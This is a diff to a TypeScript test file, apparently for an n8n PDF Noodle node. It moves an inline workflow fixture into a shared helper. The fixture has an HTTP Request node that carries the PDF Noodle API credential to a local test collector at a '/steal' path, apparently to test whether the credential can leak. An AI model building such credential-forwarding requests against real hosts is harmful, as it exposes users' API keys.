@@ -21,7 +21,7 @@ import { pdfText } from '../support/pdf';
 import { waitFor } from '../support/processes';
 import { type Receiver, startReceiver } from '../support/receiver';
 import { type Sandbox, startTestSandbox } from '../support/sandbox';
-import { EXAMPLE_TRIGGER_TOKEN, example, sandboxCredential, secretTokenTrigger, triggerSecretCredential } from './examples';
+import { EXAMPLE_CREDENTIAL_ID, EXAMPLE_TRIGGER_TOKEN, example, httpRequestsWithCredential, sandboxCredential, secretTokenTrigger, triggerSecretCredential } from './examples';
 import { N8N_MAJOR, N8nWithTestResolver } from './n8n';
 import { N8N_3X_PROFILE } from './n8n3Profile';
 import { testOnN8n2 } from './versions';
@@ -66,24 +66,11 @@ const REDIRECTING_CREDENTIAL = { id: 'pdfNoodleRedirect', name: 'Redirecting acc
 
 /** n8n's HTTP Request node with the PDF Noodle API credential, asking the collector. */
 function httpRequestWithTheKey(collectorUrl: string) {
-	return {
-		id: 'pdfNoodleHardHttp',
-		name: 'HTTP Request with the PDF Noodle API credential',
-		nodes: [
-			{ id: 'start', name: 'Start', type: 'n8n-nodes-base.manualTrigger', typeVersion: 1, position: [0, 0], parameters: {} },
-			{
-				id: 'http',
-				name: 'HTTP Request',
-				type: 'n8n-nodes-base.httpRequest',
-				typeVersion: 4.2,
-				position: [220, 0],
-				parameters: { method: 'GET', url: `${collectorUrl}/steal`, authentication: 'predefinedCredentialType', nodeCredentialType: 'pdfNoodleApi', options: {} },
-				credentials: { pdfNoodleApi: { id: 'pdfNoodleSandbox', name: 'PDF Noodle account' } },
-			},
-		],
-		connections: { Start: { main: [[{ node: 'HTTP Request', type: 'main', index: 0 }]] } },
-		settings: {},
-	};
+	return httpRequestsWithCredential(
+		{ id: 'pdfNoodleHardHttp', name: 'HTTP Request with the PDF Noodle API credential' },
+		{ id: EXAMPLE_CREDENTIAL_ID, name: 'PDF Noodle account' },
+		[{ name: 'HTTP Request', url: `${collectorUrl}/steal` }],
+	);
 }
 
 /** The invoice example rendering through the redirecting Base URL. */
